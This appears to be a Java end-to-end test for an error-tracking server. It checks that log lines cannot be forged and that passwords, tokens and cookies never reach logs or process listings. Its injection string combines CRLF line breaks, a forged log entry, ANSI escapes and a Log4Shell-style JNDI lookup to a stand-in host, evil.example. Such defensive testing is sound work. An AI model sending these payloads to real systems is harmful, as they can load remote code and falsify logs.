package dev.mayday.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/// Whatever reaches a log reaches it as text of one line, and what is secret reaches none: faults
/// 31 and 38.
interface IntoTheLog extends Attacked {

    List<Path> logs();

    String FORGED = "2026-01-01 00:00:00,000 ERROR [forged] everything is lost";

    @Test
    default void nothing_that_is_sent_makes_a_line_of_its_own() throws Exception {
        var evil =
                "attack on the log\r\n"
                        + FORGED
                        + "\r\n\u001b[2J\u001b[31m${jndi:ldap://evil.example/x}";
        var encoded = URLEncoder.encode(evil, StandardCharsets.UTF_8);
        var origin = mayday().origin();
        for (var path : List.of("/" + encoded, "/issues?query=" + encoded, "/api/0/" + encoded)) {
            RawHttp.ask(origin, "GET", path, "", "User-Agent: " + oneLine(evil));
            RawHttp.ask(origin, "GET", path, "", "X-Request-Id: " + oneLine(evil));
        }
        RawHttp.ask(
                origin,
                "POST",
                "/sign-in",
                "email=" + encoded + "&password=" + encoded,
                RawHttp.OURS,
                "User-Agent: " + oneLine(evil));
        RawHttp.ask(origin, "POST", "/api/%s/envelope/".formatted(encoded), "{}");
        var json = "{\"message\":\"%s\",\"release\":\"%s\",\"environment\":\"%s\"}";
        var text = evil.replace("\r\n", "\\r\\n").replace("\u001b", "\\u001b");
        mayday().sender().send(EventSender.newId(), json.formatted(text, text, text)).get();
        mayday().api().awaitIssue("attack on the log");

        for (var line : lines()) {
            assertThat(line).doesNotStartWith(FORGED.substring(0, 30));
            assertThat(line).doesNotContain("\u001b[2J", "\u001b[31m$");
        }
    }

    /// Passwords, sessions, tokens and links: in no log, and in nobody's list of processes.
    @Test
    default void no_secret_is_written_down() throws Exception {
        var origin = mayday().origin();
        var secrets = new ArrayList<>(List.of(Deployment.ADMIN_PASSWORD, mayday().token()));
        var guess = "a wrong but secret password " + EventSender.newId();
        var link = EventSender.newId();
        secrets.addAll(List.of(guess, link));
        var in = signIn(Deployment.ADMIN_PASSWORD);
        secrets.add(in.header("Set-Cookie").getFirst().replaceFirst("(?s)^\\w+=([^;]*);.*", "$1"));
        signIn(guess);
        RawHttp.ask(origin, "POST", "/sign-in/" + link, "", RawHttp.OURS);
        RawHttp.ask(origin, "GET", "/sign-in/" + link, "");
        mayday().api().issues();
        for (var path : List.of("/api/0/organizations/", "/api/0/nothing/", "/api/0/issues/x/")) {
            RawHttp.ask(origin, "GET", path, "", "Authorization: Bearer " + mayday().token());
            RawHttp.ask(origin, "PUT", path, "{", "Authorization: Bearer " + mayday().token());
        }
        new WebApi(origin, "sntryu_" + link).status("/organizations/");

        var written = String.join("\n", lines()) + String.join("\n", processes());
        for (var secret : secrets) {
            assertThat(secret).hasSizeGreaterThan(15);
            assertThat(written.contains(secret)).as("written down: " + secret).isFalse();
            assertThat(written.contains(secret.replace(' ', '+'))).as("written down").isFalse();
        }
    }

    private RawHttp.Answer signIn(String password) throws IOException {
        var form =
                "email=%s&password=%s"
                        .formatted(
                                URLEncoder.encode(Deployment.ADMIN_EMAIL, StandardCharsets.UTF_8),
                                URLEncoder.encode(password, StandardCharsets.UTF_8));
        return RawHttp.ask(mayday().origin(), "POST", "/sign-in", form, RawHttp.OURS);
    }

    /// With their arguments, as any user of the machine sees them: all that this test started, and
    /// PostgreSQL.
    private static List<String> processes() throws IOException {
        var ours =
                new ArrayList<>(
                        ProcessHandle.current()
                                .descendants()
                                .map(each -> Path.of("/proc/" + each.pid() + "/cmdline"))
                                .toList());
        try (var all = Files.newDirectoryStream(Path.of("/proc"), "[0-9]*")) {
            for (var each : all) {
                var text = commandLine(each.resolve("cmdline"));
                if (text.contains("postgres")) ours.add(each.resolve("cmdline"));
            }
        }
        assertThat(ours).hasSizeGreaterThan(1);
        return ours.stream().map(IntoTheLog::commandLine).toList();
    }

    private static String commandLine(Path file) {
        try {
            return Files.readString(file, StandardCharsets.ISO_8859_1).replace('\0', ' ');
        } catch (IOException gone) {
            return "";
        }
    }

    private static String oneLine(String text) {
        return text.replace("\r\n", "\r ").replace("\u001b", "\u009b");
    }

    private List<String> lines() throws IOException {
        var lines = new ArrayList<String>();
        for (var log : logs()) {
            var text = new String(Files.readAllBytes(log), StandardCharsets.ISO_8859_1);
            lines.addAll(List.of(text.split("[\r\n]")));
        }
        return lines;
    }
}
